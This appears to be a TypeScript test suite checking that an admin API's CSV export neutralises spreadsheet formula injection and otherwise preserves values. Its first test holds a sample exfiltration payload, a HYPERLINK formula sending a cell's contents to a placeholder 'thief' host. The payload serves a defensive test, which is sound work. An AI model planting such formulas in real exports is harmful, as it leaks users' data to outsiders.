import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from 'chai';
import fc from 'fast-check';
import { csvOf } from '#api/csv.js';
import type { Endpoint } from '#api/endpoint.js';
import { endpoints } from '#api/index.js';

const api = path.resolve(import.meta.dirname, '../../src/api');

/** Reads CSV as RFC 4180 has it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (const [, quoted, plain = '', end] of text.matchAll(cell)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe('CSV of the admin API', () => {
  it('has no cell that a program for tables takes for a formula', () => {
    for (const begin of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) {
      const written = `${begin}HYPERLINK("https://thief.example/?"&A1)`;
      const [, [cell] = []] = readCsv(csvOf(['name'], [{ name: written }]));
      expect(cell, JSON.stringify(begin)).to.equal(`'${written}`);
    }
  });

  it('keeps numbers as numbers, those below zero too, and empty cells empty', () => {
    const rows = [{ amount: -5_000, is_over: false, note: null, more: undefined }];
    expect(csvOf(['amount', 'is_over', 'note', 'more'], rows)).to.equal(
      'amount,is_over,note,more\r\n-5000,false,,\r\n',
    );
  });

  it('gives every text back as it was, but for the apostrophe', () => {
    fc.assert(
      fc.property(fc.array(fc.record({ one: fc.string(), other: fc.string() })), (rows) => {
        const [head, ...read] = readCsv(csvOf(['one', 'other'], rows));
        expect(head).to.eql(['one', 'other']);
        const kept = (text: string) => (/^[=+\-@\t\r\n＝＋－＠]/.test(text) ? `'${text}` : text);
        expect(read).to.eql(rows.map(({ one, other }) => [kept(one), kept(other)]));
      }),
    );
  });

  it('is made by one function, in every resource that has it', () => {
    const withCsv = readdirSync(api)
      .filter((name) => name.endsWith('.ts'))
      .map((name) => ({ name, source: readFileSync(path.join(api, name), 'utf8') }))
      .filter(({ source }) => source.includes('asCsv:'));
    const uses = withCsv.flatMap(({ source }) =>
      [...source.matchAll(/asCsv:.*?\bcsvOf\(/gs)].map(([use]) => use),
    );
    const all = Object.values<Endpoint>(endpoints).filter(({ asCsv }) => asCsv);
    expect(uses).to.have.length(all.length).above(1);
    for (const use of uses) expect(use).to.match(/=>\s+csvOf\($/);
    for (const { name, source } of withCsv)
      expect(source, name)
        .to.include("import { csvOf } from './csv.js';")
        .and.not.match(/join\(',|text\/csv/);
  });
});
